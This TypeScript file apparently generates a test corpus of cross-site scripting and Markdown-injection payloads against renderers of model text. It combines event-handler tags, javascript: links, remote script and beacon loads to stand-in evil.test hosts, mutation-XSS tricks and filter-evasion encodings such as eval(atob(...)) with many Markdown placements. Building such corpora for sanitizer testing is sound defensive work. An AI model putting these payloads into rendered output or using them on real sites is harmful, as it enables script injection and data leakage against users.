// Attacks on whoever shows model text, made by combining: vectors × quotes × spellings × places in Markdown.
// What one would run is `ran`; where one would reach is a host of `evil.test`.

type Quote = '' | '"' | "'" | '`';
const quotes: readonly Quote[] = ['"', "'", '', '`'];

/** `code`: what would run. `value` puts something into an attribute between the quotes of the case. */
type Vector = (code: string, value: (text: string) => string) => string;

const eventVectors: readonly (readonly [tag: string, event: string, rest: string])[] = [
  ['img', 'onerror', 'src=x'],
  ['img', 'onload', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACw='],
  ['svg', 'onload', ''],
  ['svg', 'onbegin', ''],
  ['body', 'onload', ''],
  ['body', 'onpageshow', ''],
  ['iframe', 'onload', 'src=about:blank'],
  ['video', 'onerror', 'src=x'],
  ['audio', 'onloadstart', 'src=x'],
  ['input', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['details', 'ontoggle', 'open'],
  ['dialog', 'oncancel', 'open'],
  ['marquee', 'onstart', ''],
  ['div', 'onpointerenter', ''],
  ['div', 'onanimationstart', 'style=animation:x'],
  ['div', 'onscrollsnapchange', ''],
  ['p', 'onclick', ''],
  ['a', 'onmouseover', 'href=#'],
  ['button', 'onclick', 'popovertarget=x'],
  ['b', 'oncopy', ''],
  ['form', 'onsubmit', ''],
  ['object', 'onerror', 'data=x'],
  ['embed', 'onload', 'src=x'],
  ['link', 'onerror', 'rel=stylesheet href=x'],
  ['style', 'onload', ''],
  ['x-y', 'onbeforematch', 'hidden=until-found'],
];

const vectors: readonly Vector[] = [
  ...eventVectors.map(
    ([tag, event, rest]): Vector =>
      (code, value) =>
        `<${tag} ${rest} ${event}=${value(code)}>x</${tag}>`,
  ),
  (code) => `<script>${code}</script>`,
  (_, value) => `<script src=${value('https://s.evil.test/a.js')}></script>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code, value) => `<iframe srcdoc=${value(`<script>${code}</script>`)}></iframe>`,
  (code, value) => `<a href=${value(`javascript:${code}`)}>x</a>`,
  (code, value) => `<form action=${value(`javascript:${code}`)}><button>x</button></form>`,
  (code, value) => `<math><mtext href=${value(`javascript:${code}`)}>x</mtext></math>`,
  (code, value) => `<svg><animate attributeName=href values=${value(`javascript:${code}`)} /></svg>`,
  (_, value) => `<meta http-equiv=refresh content=${value('0;url=https://m.evil.test/')}>`,
  (_, value) => `<base href=${value('https://b.evil.test/')}>`,
  (_, value) => `<link rel=dns-prefetch href=${value('https://d.evil.test/')}>`,
  (_, value) => `<link rel=preconnect href=${value('https://c.evil.test/')}>`,
  (_, value) => `<img src=${value('https://i.evil.test/a.png')}>`,
  (_, value) => `<img srcset=${value('https://i.evil.test/s.png 2x')}>`,
  (_, value) => `<div style=${value('background:url(https://u.evil.test/b)')}>x</div>`,
  () => '<style>@import "https://u.evil.test/i.css"; *{background:url(https://u.evil.test/c)}</style>',
  (_, value) => `<a ping=${value('https://p.evil.test/')} href=${value('https://h.evil.test/')}>x</a>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `<![CDATA[><img src=x onerror=${code}>]]>`,
  (code) => `"><img src=x onerror=${code}>`,
  (code) => `'-${code}-'`,
];

const entities = (text: string, write: (code: number) => string): string =>
  [...text].map((character) => write(character.codePointAt(0) ?? 0)).join('');

/** Ways to spell an attack past a filter: what the code says, and what the whole markup looks like. */
const spellings: readonly { code: string; markup: (text: string) => string }[] = [
  { code: 'ran(1)', markup: (text) => text },
  { code: entities('ran(1)', (code) => `&#${code};`), markup: (text) => text },
  { code: entities('ran(1)', (code) => `&#x${code.toString(16).padStart(6, '0')}`), markup: (text) => text },
  {
    code: 'ran`1`',
    markup: (text) => text.replace(/<(\w)/g, (_, first: string) => `<${first.toUpperCase()}`),
  },
  { code: '\\u0072an(1)', markup: (text) => text.replace(/ /g, '/') },
  { code: 'ran(1)', markup: (text) => text.replace(/ /g, '\t') },
  { code: 'ran(1)//', markup: (text) => text.replace(/<(\w)/g, '<\u0000$1') },
  { code: 'eval(atob(`cmFuKDEp`))', markup: (text) => text.replace(/</g, '&lt;') },
  { code: 'ran(1)', markup: (text) => text.replace(/=/g, '\u200b=') },
];

const oneLine = (attack: string): string => attack.replace(/\s+/g, ' ');
const without = (attack: string, characters: RegExp): string => attack.replace(characters, '');

/** Places in Markdown where a renderer treats text in a way of its own. */
const places: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `Some text ${attack} and more.`,
  (attack) => `**bold ${attack}** and *soft ${attack}*`,
  (attack) => `# ${attack}`,
  (attack) => `${oneLine(attack)}\n===`,
  (attack) => `- ${attack}\n  - [x] ${attack}`,
  (attack) => `> ${attack}\n>\n> 1. ${attack}`,
  (attack) => `| ${without(attack, /[|\n]/g)} | b |\n| --- | :-: |\n| c | ${without(attack, /[|\n]/g)} |`,
  (attack) => `\`\`\`${without(oneLine(attack), /`/g)}\n${without(attack, /`/g)}\n\`\`\``,
  (attack) => `    ${oneLine(attack)}`,
  (attack) => `\`${without(oneLine(attack), /`/g)}\``,
  (attack) => `[${attack}](https://example.org/)`,
  (attack) => `[x](<${without(oneLine(attack), /[<>]/g)}>)`,
  (attack) => `[x](https://l.evil.test/ "${without(attack, /"/g)}")`,
  (attack) => `![${attack}](https://i.evil.test/p.png "${without(attack, /"/g)}")`,
  (attack) => `[r]: https://r.evil.test/ '${without(oneLine(attack), /'/g)}'\n\n[r] ![r]`,
  (attack) => `text[^1]\n\n[^1]: ${attack}`,
  (attack) => `<https://a.evil.test/${without(oneLine(attack), /[<>\s]/g)}>`,
  (attack) => `https://w.evil.test/?q=${without(oneLine(attack), /\s/g)}`,
  (attack) =>
    `$${without(oneLine(attack), /\$/g)}$ and $$\n\\href{javascript:ran(1)}{${without(attack, /[$\n]/g)}}\n$$`,
  (attack) => `<details open>\n\n${attack}\n\n</details>`,
  (attack) => `\u202e${attack}\u202c \u{e0041}`,
];

/** How often every vector meets every place, each time in another spelling and other quotes. */
const meetings = 6;

const make = (vector: Vector, place: (attack: string) => string, at: number): string => {
  const quote = quotes[at % quotes.length] ?? '"';
  const spelling = spellings[at % spellings.length] ?? spellings[0];
  const attack = vector(spelling?.code ?? '', (text) => `${quote}${text}${quote}`);
  return place(spelling?.markup(attack) ?? attack);
};

/** Every attack, none twice. */
export const attacks: readonly string[] = [
  ...new Set(
    vectors.flatMap((vector, one) =>
      places.flatMap((place, other) =>
        // Steps that share no divisor with the numbers of quotes and spellings: each meets each in time.
        Array.from({ length: meetings }, (_, turn) => make(vector, place, one * 5 + other * 7 + turn)),
      ),
    ),
  ),
];

/** `count` of them, spread over all vectors and places; the same every time. */
export const someAttacks = (count: number): string[] => {
  // A prime step visits every one before it comes back to the first.
  const step = 1009;
  return Array.from({ length: Math.min(count, attacks.length) }, (_, index) => {
    const attack = attacks[(index * step) % attacks.length];
    if (attack === undefined) throw new Error('The corpus is empty.');
    return attack;
  });
};

/** Several as one answer, apart from each other. */
export const asAnswer = (some: readonly string[]): string => some.join('\n\n---\n\n');
